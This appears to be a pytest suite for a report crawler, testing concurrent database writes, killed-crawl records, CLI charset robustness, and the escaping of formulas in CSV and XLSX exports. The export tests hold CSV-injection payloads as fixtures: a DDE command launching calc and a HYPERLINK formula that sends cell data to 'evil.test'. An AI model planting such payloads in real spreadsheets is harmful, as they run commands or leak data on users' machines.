"""Fault suite, the database and the commands around it: two crawls into one database at once
lose nothing and store nothing twice, a killed crawl leaves a run that says so, CSV exports
cannot run formulas, and the parser CLI never prints a traceback."""
import csv
import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import sqlite_utils

from crawler import store
from crawler.demo import crawl_command, portals_for_port
from crawler.export import export
from crawler.items import ReportItem
from crawler.sanitize import spreadsheet_cell, without_surrogates
from crawler.schema import ParseOutcome
from tests.conftest import FAST
from tests.fixtures import ROOT

EXPECTED = json.loads((ROOT / "demo" / "expected.json").read_text(encoding="utf-8"))


def test_two_crawls_into_one_database_at_once_store_every_item_once(server, tmp_path):
    db = tmp_path / "shared.db"
    portals = portals_for_port(server.server_port, tmp_path / "portals.csv")
    # refresh=all: each crawl fetches everything, instead of skipping what the other has just stored
    # (incremental knowledge is read from the shared database as it grows), so both write every item
    command = crawl_command(portals, str(db), *FAST, "-a", "refresh=all")
    crawls = [subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outputs = [c.communicate(timeout=300) for c in crawls]
    assert [c.returncode for c in crawls] == [0, 0], [err[-2000:] for _, err in outputs]
    for out, err in outputs:
        assert "errors by kind         http_404 1, http_500 1, robots_disallowed 1" in out, out
        assert "could not store" not in err and "database is locked" not in err
    data = sqlite_utils.Database(db)
    found = {(r["agency"], r["year"]) for r in data.query("SELECT agency, year FROM reports")}
    assert found == {(e["agency"], e["year"]) for e in EXPECTED}
    assert data["reports"].count == len(EXPECTED)
    twice = list(data.query("SELECT url, sha256, part, count(*) AS n FROM sources GROUP BY url, sha256, part HAVING n > 1"))
    assert twice == []
    runs = list(data.query("SELECT status, finished_at FROM crawl_runs"))
    assert len(runs) == 2 and all(r["status"] != "running" and r["finished_at"] for r in runs)


def test_a_killed_crawl_leaves_a_run_that_did_not_finish(server, tmp_path):
    db = tmp_path / "killed.db"
    portals = portals_for_port(server.server_port, tmp_path / "portals.csv")
    crawl = subprocess.Popen(crawl_command(portals, str(db), *FAST), cwd=ROOT, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 60
        while time.time() < deadline and not _sources(db):
            time.sleep(0.2)
        assert _sources(db), "the crawl stored nothing within a minute"
    finally:
        crawl.send_signal(signal.SIGKILL)
        crawl.wait(30)
    run = next(sqlite_utils.Database(db).query("SELECT * FROM crawl_runs"))
    assert run["status"] == "running" and run["finished_at"] is None and run["started_at"]
    listed = [line for line in portals.read_text(encoding="utf-8").splitlines()[1:] if line.strip()]
    assert json.loads(run["arguments"])["portal_count"] == len(listed)


def _sources(db: Path) -> int:
    if not db.exists():
        return 0
    try:
        return sqlite_utils.Database(db)["sources"].count
    except Exception:       # being created
        return 0


def test_csv_export_cells_never_start_a_formula(tmp_path):
    db = store.open_db(tmp_path / "reports.db")
    item = ReportItem(url="http://x.test/a.html", body=b"<html>x</html>", content_type="text/html",
                      errors=["@SUM(1+1)*cmd|' /C calc'!A0"])
    store.store_fetch(db, item, ParseOutcome("error", reason='=HYPERLINK("http://evil.test/?"&A1,"click")'))
    [path] = [p for p in export(db, tmp_path / "csv", "csv") if p.name == "sources.csv"]
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["parse_error"].startswith("'=HYPERLINK(")
    assert "@SUM" in rows[0]["parse_error"]


def test_spreadsheet_cells_and_surrogates():
    assert [spreadsheet_cell(v) for v in ("=1+1", "+cmd", "-2+3", "@A1", "\t=x", "-5", "+3.5", "1e5", 7, None, "正文")] == \
        ["'=1+1", "'+cmd", "'-2+3", "'@A1", "'\t=x", "-5", "+3.5", "1e5", 7, None, "正文"]
    assert without_surrogates("a\ud800b\udfffc") == "a\ufffdb\ufffdc"


def _cli(*args, stdin=None):
    return subprocess.run([sys.executable, "-m", "crawler", *args], cwd=ROOT, input=stdin, capture_output=True, timeout=120)


def test_cli_output_cut_short_exits_quietly():
    """`python -m crawler parse FILE | head -3`: the reader goes away before the output ends."""
    sample = ROOT / "tests" / "fixtures" / "html" / "bureau_2021_template.html"
    process = subprocess.Popen([sys.executable, "-m", "crawler", "parse", str(sample), "--json"], cwd=ROOT,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    process.stdout.close()
    err = process.stderr.read()
    assert process.wait(60) == 1        # not all of it was delivered
    assert err == b""


def test_cli_prints_pages_with_lone_surrogates_and_failing_codecs():
    page = ("<html><head><meta charset='utf-7'><title>青阳县人民政府2021年政府信息公开工作年度报告</title></head>"
            "<body><p>+2AA-一、总体情况</p><p>三、收到和处理政府信息公开申请情况</p>&#xD800;</body></html>").encode()
    for charset in ("utf-7", "undefined", "punycode"):
        done = _cli("parse", "-", "--json", stdin=page.replace(b"utf-7", charset.encode()))
        assert done.returncode == 0, done.stderr
        report = json.loads(done.stdout)
        assert report["agency"] == "青阳县人民政府" and report["year"] == 2021
        assert b"Traceback" not in done.stderr


def test_xlsx_export_keeps_formula_text_as_text(tmp_path):
    from openpyxl import load_workbook

    from crawler.jobs import parse_job
    from crawler.xlsx import SHEET_REPORTS, write_xlsx
    from tests.hostile import report_html

    db = store.open_db(tmp_path / "reports.db")
    outcome = parse_job(report_html().encode(), url="http://x.test/a.html")
    store.store_fetch(db, ReportItem(url="http://x.test/a.html", body=report_html().encode()), outcome)
    db.execute("UPDATE reports SET title = ?, publisher = ?", ['=HYPERLINK("http://evil.test","x")', "-5"])
    db.conn.commit()
    sheet = load_workbook(write_xlsx(db, tmp_path / "reports.xlsx"))[SHEET_REPORTS]
    cells = {c.value: c.data_type for c in sheet[2]}
    assert cells['=HYPERLINK("http://evil.test","x")'] == "s"
